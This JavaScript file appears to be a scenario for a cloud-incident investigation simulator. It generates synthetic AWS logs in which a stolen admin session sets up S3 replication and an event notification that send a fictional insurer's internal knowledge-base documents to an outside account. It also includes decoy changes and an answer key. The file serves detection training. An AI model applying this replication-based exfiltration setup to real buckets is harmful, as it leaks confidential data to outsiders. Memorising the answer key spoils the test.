// Knowledge-base source bucket wired to another account. Dasol Direct Insurance's assistant Nari
// answers from a Bedrock knowledge base fed from the S3 bucket dasol-nari-kb-source; besides the
// public product terms, the claims and underwriting teams keep internal guides there (the assistant
// uses them for routing and hand-over). On 14 April the KB team, under a ticket, adds an event
// notification so that uploads trigger the kb-sync Lambda (ingestion right after an upload), and the
// platform team, under another ticket, replicates the claims training bucket to the organisation's
// disaster-recovery account (new replication role, versioning, PutBucketReplication).
//
// That night a platform administrator's Identity Center CLI session (AdministratorAccess; the same
// ASIA key he used from the office during the day) is used from a hosting address with another
// client. The actor reads the bucket's notification, replication and versioning settings, creates a
// role S3 can assume that may read the bucket and replicate into a bucket of an outside account
// (402118736590, not in the organisation), puts a replication rule on dasol-nari-kb-source (whole
// bucket, replica ownership to the destination account) and rewrites the notification
// configuration: it keeps the KB team's Lambda trigger and adds a topic in the same outside account
// for every new object. No object is read from outside: on 15 April the underwriting, claims and
// partner teams upload new internal documents as usual, the Lambda syncs the knowledge base, and S3
// (assuming the actor's role) copies each new object to the outside bucket and announces its key to
// the outside topic.
//
// Decoys: the KB team's ticketed notification to its own Lambda (same API, same bucket), the
// ticketed replication of the training bucket to the organisation's DR account (same APIs, a new
// role, owner translation), the administrator's own daytime work with the same key, the uploads
// and syncs themselves, S3 assuming the DR replication role.

import { DASOL, DASOL_KB, lib, xcall } from './_worlds-u.mjs';

const { C, defineScenario, iamRole, MIN, Playbooks, UA } = lib;

const V = '2012-10-17';
const ACTOR_IP = '146.70.199.43'; // hosting provider
const OUTSIDE = '402118736590'; // not in the organisation
const OUT_BUCKET = 'nari-docs-mirror-apne2';
const OUT_TOPIC = `arn:aws:sns:ap-northeast-2:${OUTSIDE}:kb-object-events`;
const XMLNS = 'http://s3.amazonaws.com/doc/2006-03-01/';
const S3_TRUST = {
  Version: V,
  Statement: [{ Effect: 'Allow', Principal: { Service: 's3.amazonaws.com' }, Action: 'sts:AssumeRole' }],
};

// the internal documents uploaded after the rule (they leave through replication)
const NEW_DOCS = [
  [
    'underwriting/internal/device-tariff-2026-q2.md',
    'Device insurance tariff Q2 2026 (internal, not published)',
    'underwriting',
  ],
  [
    'underwriting/internal/travel-risk-loadings-2026.md',
    'Travel cover risk loadings by destination (internal)',
    'underwriting',
  ],
  ['claims/internal/fraud-indicators-v7.md', 'Claim fraud indicators v7 (claims handlers only)', 'claims'],
  ['claims/internal/settlement-authority-matrix.md', 'Settlement authority matrix (internal)', 'claims'],
  [
    'partners/internal/shop-commission-schedule-2026.md',
    'Partner shop commission schedule 2026 (confidential)',
    'partners',
  ],
];
// uploaded on the 14th, before the rule (not replicated: replication applies to new objects)
const OLD_DOCS = [
  ['claims/internal/handover-checklist-v4.md', 'Claims hand-over checklist v4', 'claims'],
  ['policies/device-insurance-terms-2026.md', 'Device insurance terms 2026', 'policies'],
];

export default defineScenario({
  name: 's3-notification-exfil',
  seed: 'fresh-u/s3-notification-exfil/v1',
  start: '2026-04-14T00:00:00Z',
  days: 2,
  world: DASOL,
  background: {
    intensity: 0.85,
    chatbot: { conversationsPerHour: 40 },
    agent: { sessionsPerHour: 4 },
    ops: { random: 1 },
  },
  alert:
    "On 16 April a partner shop sent Dasol a screenshot, posted on a forum, of the unpublished Q2 2026 device insurance tariff. The document exists only in the knowledge base's source bucket dasol-nari-kb-source, where the underwriting team uploaded it on 15 April; nobody outside the company has access to that bucket.",
  truth: {
    description:
      "The Identity Center CLI session of a platform administrator (AdministratorAccess permission set; the same ASIA access key and session name he used from the office during the day) was used at 01:1x Seoul time on 15 April from 146.70.199.43, a hosting address, with another client. The actor listed buckets and read the notification, replication and versioning settings of dasol-nari-kb-source, created the role dasol-s3-kb-replication (trusted by S3; may read every object version of the bucket and replicate into arn:aws:s3:::nari-docs-mirror-apne2), put a replication rule on dasol-nari-kb-source that copies every new object to nari-docs-mirror-apne2 in account 402118736590, which is not in the organisation, with replica ownership given to that account, and rewrote the bucket's notification configuration, keeping the KB team's kb-sync Lambda trigger and adding an SNS topic in the same outside account (kb-object-events) for every ObjectCreated event. Nothing was read from outside the company: on 15 April the underwriting, claims and partner teams uploaded five internal documents (the Q2 2026 device tariff, travel risk loadings, fraud indicators v7, the settlement authority matrix and the partner commission schedule); S3 assumed the actor's role and copied them to the outside bucket and announced their keys to the outside topic, while the kb-sync Lambda synced them into the knowledge base as usual. Documents uploaded before the rule were not replicated. Containment: delete the replication rule and restore the notification configuration, delete the role, end the administrator's sessions and clean his laptop, treat the five documents as disclosed. The KB team's ticketed notification to its own Lambda, the ticketed replication of the training bucket to the DR account 731946208832, the administrator's daytime work and the uploads and syncs are legitimate.",
    elements: ['access', 'infrastructure-changes', 'private-data'],
    components: ['knowledge-bases'],
    extra: {
      coverageGaps: [
        "S3 replication copies and event-notification deliveries to another account are not recorded as object reads in the source account's CloudTrail; what left is inferred from the objects written after the rule.",
      ],
    },
  },
  incident(sim, { rng, at, world: w, actors }) {
    const acct = w.account.id;
    const home = w.homeRegion;
    const kbBucket = w.res.kb.bucket;
    const training = w.res.buckets.training;
    const drAcct = w.accounts.find((a) => a.alias === 'dasol-dr').id;
    const fn = w.res.functions.kbSync;
    const s3o = { accountId: acct, region: home };
    const host = (b) => `${b}.s3.${home}.amazonaws.com`;
    const s3add = () => ({
      SignatureVersion: 'SigV4',
      CipherSuite: 'TLS_AES_128_GCM_SHA256',
      bytesTransferredIn: rng.int(300, 1400),
      AuthenticationMethod: 'AuthHeader',
      'x-amz-id-2': rng.base62(76) + '=',
      bytesTransferredOut: 0,
    });
    const bucketCall = (name, bucket, sub, body, scope) =>
      xcall('s3', name, { [sub]: '', bucketName: bucket, Host: host(bucket), ...(body ?? {}) }, null, scope, {
        region: home,
        additional: s3add(),
        resources: [{ accountId: acct, type: 'AWS::S3::Bucket', ARN: `arn:aws:s3:::${bucket}` }],
      });
    const kbSyncNotif = {
      Id: DASOL_KB.notifyId,
      CloudFunction: fn.arn,
      Event: 's3:ObjectCreated:*',
      Filter: { S3Key: { FilterRule: [{ Name: 'Suffix', Value: '.md' }] } },
    };

    // ---- principals -----------------------------------------------------------------------
    const admins = w.people.filter((p) => p.permissionSet === 'admin');
    const victim = admins[0];
    const drAdmin = admins[1] ?? w.people.find((p) => p.permissionSet === 'power');
    const kbOwner = w.people.find((p) => p.team === 'app');
    const editors = w.people.filter((p) => p.team === 'support-ops');
    const drRole = iamRole(rng, acct, DASOL_KB.drRole, {
      trust: S3_TRUST,
      created: at('2026-04-14T02:21:40Z'),
      description: 'Replication of the claims training bucket to dasol-dr',
    });
    const drPolicy = {
      Version: V,
      Statement: [
        {
          Effect: 'Allow',
          Action: ['s3:GetReplicationConfiguration', 's3:ListBucket'],
          Resource: `arn:aws:s3:::${training}`,
        },
        {
          Effect: 'Allow',
          Action: [
            's3:GetObjectVersionForReplication',
            's3:GetObjectVersionAcl',
            's3:GetObjectVersionTagging',
          ],
          Resource: `arn:aws:s3:::${training}/*`,
        },
        {
          Effect: 'Allow',
          Action: [
            's3:ReplicateObject',
            's3:ReplicateDelete',
            's3:ReplicateTags',
            's3:ObjectOwnerOverrideToBucketOwner',
          ],
          Resource: `arn:aws:s3:::${DASOL_KB.drBucket}/*`,
        },
        {
          Effect: 'Allow',
          Action: ['kms:Decrypt'],
          Resource: `arn:aws:kms:${home}:${acct}:key/${w.res.kmsKeys[2]}`,
        },
        { Effect: 'Allow', Action: ['kms:Encrypt'], Resource: `arn:aws:kms:${home}:${drAcct}:key/*` },
      ],
    };
    drRole.inline.push({ name: 'dr-replication', document: drPolicy });
    w.roles.drReplication = drRole;
    const badRole = iamRole(rng, acct, 'dasol-s3-kb-replication', {
      trust: S3_TRUST,
      created: at('2026-04-14T16:19:05Z'),
      description: 'KB docs backup replication',
    });
    const badPolicy = {
      Version: V,
      Statement: [
        {
          Effect: 'Allow',
          Action: ['s3:GetReplicationConfiguration', 's3:ListBucket'],
          Resource: `arn:aws:s3:::${kbBucket}`,
        },
        {
          Effect: 'Allow',
          Action: [
            's3:GetObjectVersionForReplication',
            's3:GetObjectVersionAcl',
            's3:GetObjectVersionTagging',
          ],
          Resource: `arn:aws:s3:::${kbBucket}/*`,
        },
        {
          Effect: 'Allow',
          Action: ['s3:ReplicateObject', 's3:ReplicateTags', 's3:ObjectOwnerOverrideToBucketOwner'],
          Resource: `arn:aws:s3:::${OUT_BUCKET}/*`,
        },
      ],
    };
    badRole.inline.push({ name: 'kb-docs-replication', document: badPolicy });
    w.roles.kbReplication = badRole;

    const provider = `arn:aws:iam::${acct}:saml-provider/${w.sso.provider}`;
    const signIn = (p, t0, ip, tags) => {
      const role = w.sso[p.permissionSet];
      const ob = {
        userId: p.ssoUserId,
        identityStoreArn: `arn:aws:identitystore::${acct}:identitystore/${w.sso.identityStore}`,
      };
      const saml = {
        type: 'SAMLUser',
        principalId: `${rng.base62(28)}=:${p.email}`,
        userName: p.email,
        identityProvider: provider,
      };
      const ck = rng.iamId('ASIA');
      const lk = rng.iamId('ASIA');
      const cons = sim.roleSession(role, p.email, {
        ip,
        userAgent: p.browser,
        accessKeyId: ck,
        created: t0,
        console: true,
        onBehalfOf: ob,
        rng,
      });
      const cli = sim.roleSession(role, p.email, {
        ip,
        userAgent: p.cli,
        accessKeyId: lk,
        created: t0 + 50000,
        onBehalfOf: ob,
        rng,
      });
      sim.tag(tags, () => {
        sim.call(
          rng,
          t0,
          cons.with({ identity: saml, console: false }),
          C.assumeRoleWithSAML(rng, role, provider, ck, t0, { subject: p.email }),
        );
        sim.call(rng, t0 + 2200, cons.with({ console: false }), {
          ...C.consoleLogin({ federated: true }),
          tls: 'tls13',
        });
        sim.call(
          rng,
          t0 + 50000,
          cli.with({ identity: saml }),
          C.assumeRoleWithSAML(rng, role, provider, lk, t0 + 50000, { subject: p.email }),
        );
      });
      return { cons, cli };
    };
    const D = { decoy: true };

    // S3 delivers a notification to the kb-sync Lambda, which starts an ingestion job
    const lambdaSync = (t, docs) => {
      const key = rng.iamId('ASIA');
      sim.call(
        rng,
        t,
        sim.serviceSession('lambda.amazonaws.com'),
        C.assumeRole(rng, w.roles.kbSync, fn.name, key, t, { region: home }),
      );
      const s = sim.roleSession(w.roles.kbSync, fn.name, {
        ip: rng.pick(w.net.lambdaEgress),
        userAgent: w.userAgents.pythonLambda,
        accessKeyId: key,
        created: t,
        rng,
      });
      const jobId = rng.upperAlnum(10);
      sim.call(rng, t + 1200, s, C.startIngestionJob(rng, w.res.kb, jobId));
      actors.jobs.ingestion(t + 1800, jobId, docs, rng);
    };
    const docText = (title, team) =>
      `# ${title}\n\nOwner: ${team} team, ${w.company.name}. Classification: INTERNAL - do not share outside the company.\n\n` +
      Array.from(
        { length: 6 },
        (_, i) =>
          `${i + 1}. ${rng.pick(['Device class', 'Region', 'Claim type', 'Partner tier', 'Risk band'])} ${rng.pick(['A', 'B', 'C', 'D'])}: ${rng.pick(['base rate', 'loading', 'limit', 'commission', 'threshold'])} ${rng.int(2, 40)}.${rng.int(0, 9)}%, ${rng.pick(['review above', 'cap at', 'escalate above'])} KRW ${rng.int(1, 90) * 10000}.`,
      ).join('\n') +
      '\n';
    const upload = (s, t, [key, title, team]) => {
      const text = docText(title, team);
      sim.call(
        rng,
        t,
        s,
        C.s3Object(rng, 'PutObject', kbBucket, key, { ...s3o, bytes: Buffer.byteLength(text) }),
      );
      sim.addKbDoc({ key, title, text }, t);
      return { key, change: 'new', size: Buffer.byteLength(text) };
    };

    // ===== 14 April ===========================================================================
    // the administrator's day at the office (the CLI key is stolen later)
    const v = signIn(victim, at('2026-04-14T00:05:12Z'), w.net.office[0], D);
    let t = at('2026-04-14T00:09:00Z');
    sim.tag(D, () => {
      sim.call(rng, t, v.cli, C.getCallerIdentity());
      for (let i = 0; i < 10; i++) {
        t += rng.int(15, 55) * MIN;
        sim.call(
          rng,
          t,
          v.cli,
          rng.pick([
            C.s3ListBuckets(rng, { region: home }),
            C.s3Bucket(rng, 'GetBucketVersioning', training, s3o),
            bucketCall('GetBucketReplication', training, 'replication'),
            C.iamGet('ListRoles', { maxItems: 200 }),
            C.s3Bucket(rng, 'GetBucketPolicy', kbBucket, s3o),
            C.lambdaRead('GetFunctionConfiguration20150331v2', fn),
          ]),
        );
      }
    });

    // ---- decoy: DR replication of the training bucket (ticketed) -------------------------------
    sim.planChange({
      ticket: 'CHG-2026-0418',
      window: { start: '2026-04-14T02:00:00Z', end: '2026-04-14T03:30:00Z' },
      owner: drAdmin.email,
      summary: `S3 DR: replicate ${training} to ${DASOL_KB.drBucket} in dasol-dr (${drAcct}); new role ${DASOL_KB.drRole}, enable versioning, replica owner = destination`,
    });
    const d = signIn(drAdmin, at('2026-04-14T01:48:30Z'), w.net.office[1], D);
    t = at('2026-04-14T02:18:10Z');
    sim.tag(D, () => {
      sim.call(rng, t, d.cli, C.getCallerIdentity());
      sim.call(rng, (t += rng.int(60, 200) * 1000), d.cli, C.iamCreateRole(drRole, t));
      sim.call(
        rng,
        (t += rng.int(10, 30) * 1000),
        d.cli,
        C.iamPutRolePolicy(drRole, 'dr-replication', drPolicy),
      );
      sim.call(
        rng,
        (t += rng.int(30, 90) * 1000),
        d.cli,
        C.s3Bucket(rng, 'GetBucketVersioning', training, s3o),
      );
      sim.call(
        rng,
        (t += rng.int(10, 30) * 1000),
        d.cli,
        bucketCall(
          'PutBucketVersioning',
          training,
          'versioning',
          { VersioningConfiguration: { xmlns: XMLNS, Status: 'Enabled' } },
          [training],
        ),
      );
      sim.call(
        rng,
        (t += rng.int(40, 120) * 1000),
        d.cli,
        bucketCall(
          'PutBucketReplication',
          training,
          'replication',
          {
            ReplicationConfiguration: {
              xmlns: XMLNS,
              Role: drRole.arn,
              Rule: {
                ID: 'dr-all-objects',
                Status: 'Enabled',
                Priority: 1,
                Filter: { Prefix: '' },
                DeleteMarkerReplication: { Status: 'Disabled' },
                SourceSelectionCriteria: { SseKmsEncryptedObjects: { Status: 'Enabled' } },
                Destination: {
                  Bucket: `arn:aws:s3:::${DASOL_KB.drBucket}`,
                  Account: drAcct,
                  AccessControlTranslation: { Owner: 'Destination' },
                  StorageClass: 'STANDARD_IA',
                  EncryptionConfiguration: {
                    ReplicaKmsKeyID: `arn:aws:kms:${home}:${drAcct}:alias/dasol-dr-s3`,
                  },
                },
              },
            },
          },
          [training, drRole.arn],
        ),
      );
      sim.call(
        rng,
        (t += rng.int(20, 60) * 1000),
        d.cli,
        bucketCall('GetBucketReplication', training, 'replication'),
      );
      // S3 starts replicating new training objects with the DR role
      for (const ts of [at('2026-04-14T05:41:00Z'), at('2026-04-15T03:12:00Z')])
        sim.call(
          rng,
          ts,
          sim.serviceSession('s3.amazonaws.com'),
          C.assumeRole(rng, drRole, `s3-replication-${rng.lowerAlnum(8)}`, rng.iamId('ASIA'), ts, {
            region: home,
          }),
        );
    });

    // ---- decoy: the KB team's upload trigger (ticketed) -------------------------------------------
    sim.planChange({
      ticket: 'CHG-2026-0421',
      window: { start: '2026-04-14T05:00:00Z', end: '2026-04-14T06:00:00Z' },
      owner: kbOwner.email,
      summary: `Knowledge base: S3 event notification on ${kbBucket} (ObjectCreated, *.md) to Lambda ${fn.name} so uploads are synced right away; Lambda permission for s3.amazonaws.com`,
    });
    const k = signIn(kbOwner, at('2026-04-14T04:58:02Z'), w.net.office[0], D);
    t = at('2026-04-14T05:06:40Z');
    sim.tag(D, () => {
      sim.call(rng, t, k.cli, C.getCallerIdentity());
      sim.call(
        rng,
        (t += rng.int(20, 60) * 1000),
        k.cli,
        C.lambdaAddPermission(rng, fn, {
          principal: 's3.amazonaws.com',
          sourceArn: `arn:aws:s3:::${kbBucket}`,
          statementId: 's3-kb-source-upload',
        }),
      );
      sim.call(
        rng,
        (t += rng.int(20, 60) * 1000),
        k.cli,
        bucketCall('GetBucketNotification', kbBucket, 'notification'),
      );
      sim.call(
        rng,
        (t += rng.int(30, 90) * 1000),
        k.cli,
        bucketCall(
          'PutBucketNotification',
          kbBucket,
          'notification',
          {
            NotificationConfiguration: { xmlns: XMLNS, CloudFunctionConfiguration: kbSyncNotif },
          },
          [kbBucket, fn.name],
        ),
      );
      sim.call(
        rng,
        (t += rng.int(10, 40) * 1000),
        k.cli,
        bucketCall('GetBucketNotification', kbBucket, 'notification'),
      );
    });
    // an editor's uploads that afternoon: the trigger works (before the rule, not replicated)
    const e0 = signIn(editors[0], at('2026-04-14T05:40:00Z'), w.net.office[1], D);
    t = at('2026-04-14T06:02:00Z');
    const early = OLD_DOCS.map((doc) =>
      sim.tag(D, () => upload(e0.cons, (t += rng.int(40, 120) * 1000), doc)),
    );
    lambdaSync(t + rng.int(2, 5) * 1000, early);

    // ---- the actor: the administrator's CLI session from a hosting address ------------------
    const ACTOR_UA = UA.awsCli(rng.fork('ua-actor'), 'linux', { family: 'debian' });
    const a = sim.threat(v.cli.with({ ip: ACTOR_IP, userAgent: ACTOR_UA, tls: 'tls12' }));
    t = at('2026-04-14T16:11:37Z');
    t = Playbooks.whoami(sim, rng, a, t);
    sim.call(rng, (t += rng.int(10, 30) * 1000), a, { ...C.s3ListBuckets(rng, { region: home }), key: true });
    sim.call(rng, (t += rng.int(20, 60) * 1000), a, {
      ...bucketCall('GetBucketNotification', kbBucket, 'notification'),
      key: true,
    });
    sim.call(rng, (t += rng.int(5, 20) * 1000), a, {
      ...bucketCall('GetBucketReplication', kbBucket, 'replication'),
      error: {
        code: 'ReplicationConfigurationNotFoundError',
        message: 'The replication configuration was not found',
      },
    });
    sim.call(rng, (t += rng.int(5, 20) * 1000), a, C.s3Bucket(rng, 'GetBucketVersioning', kbBucket, s3o));
    sim.call(rng, (t += rng.int(10, 40) * 1000), a, C.s3Bucket(rng, 'GetBucketEncryption', kbBucket, s3o));
    t = at('2026-04-14T16:19:05Z');
    sim.call(rng, t, a, { ...C.iamCreateRole(badRole, t), key: true });
    sim.call(rng, (t += rng.int(10, 30) * 1000), a, {
      ...C.iamPutRolePolicy(badRole, 'kb-docs-replication', badPolicy),
      key: true,
    });
    sim.call(rng, (t += rng.int(40, 90) * 1000), a, {
      ...bucketCall(
        'PutBucketReplication',
        kbBucket,
        'replication',
        {
          ReplicationConfiguration: {
            xmlns: XMLNS,
            Role: badRole.arn,
            Rule: {
              ID: 'kb-docs-backup',
              Status: 'Enabled',
              Priority: 1,
              Filter: { Prefix: '' },
              DeleteMarkerReplication: { Status: 'Disabled' },
              Destination: {
                Bucket: `arn:aws:s3:::${OUT_BUCKET}`,
                Account: OUTSIDE,
                AccessControlTranslation: { Owner: 'Destination' },
                StorageClass: 'STANDARD',
              },
            },
          },
        },
        [kbBucket, badRole.arn, `arn:aws:s3:::${OUT_BUCKET}`],
      ),
      key: true,
    });
    sim.call(
      rng,
      (t += rng.int(10, 40) * 1000),
      a,
      bucketCall('GetBucketReplication', kbBucket, 'replication'),
    );
    sim.call(rng, (t += rng.int(30, 90) * 1000), a, {
      ...bucketCall(
        'PutBucketNotification',
        kbBucket,
        'notification',
        {
          NotificationConfiguration: {
            xmlns: XMLNS,
            CloudFunctionConfiguration: kbSyncNotif,
            TopicConfiguration: { Id: 'kb-object-audit', Topic: OUT_TOPIC, Event: 's3:ObjectCreated:*' },
          },
        },
        [kbBucket, OUT_TOPIC],
      ),
      key: true,
    });
    sim.call(
      rng,
      (t += rng.int(10, 30) * 1000),
      a,
      bucketCall('GetBucketNotification', kbBucket, 'notification'),
    );
    sim.truth.addScope('resources', [kbBucket, badRole.arn, `arn:aws:s3:::${OUT_BUCKET}`, OUT_TOPIC]);

    // ===== 15 April: uploads as usual; each new object is copied out by S3 ======================
    const owners = [
      editors[1] ?? editors[0],
      editors[0],
      w.people.find((p) => p.team === 'data') ?? editors[0],
    ];
    const e1 = signIn(owners[0], at('2026-04-15T00:31:10Z'), w.net.office[0], D);
    const e2 = signIn(owners[1], at('2026-04-15T01:02:44Z'), rng.pick(owners[1].home), D);
    const plan = [
      [e1.cons, at('2026-04-15T01:15:00Z'), [NEW_DOCS[0], NEW_DOCS[1]]],
      [e2.cons, at('2026-04-15T02:40:00Z'), [NEW_DOCS[2], NEW_DOCS[3]]],
      [e1.cons, at('2026-04-15T06:05:00Z'), [NEW_DOCS[4]]],
    ];
    let firstCopy = true;
    for (const [s, t0, docs] of plan) {
      let tu = t0;
      const up = docs.map((doc) => sim.tag(D, () => upload(s, (tu += rng.int(30, 150) * 1000), doc)));
      lambdaSync(tu + rng.int(2, 5) * 1000, up);
      if (firstCopy) {
        // S3 assumes the actor's role to replicate the first new object
        firstCopy = false;
        const ts = t0 + rng.int(40, 90) * 1000;
        sim.tag({ malicious: true, scope: 'none' }, () =>
          sim.call(rng, ts, sim.serviceSession('s3.amazonaws.com'), {
            ...C.assumeRole(rng, badRole, `s3-replication-${rng.lowerAlnum(8)}`, rng.iamId('ASIA'), ts, {
              region: home,
            }),
            key: true,
          }),
        );
      }
    }
  },
});
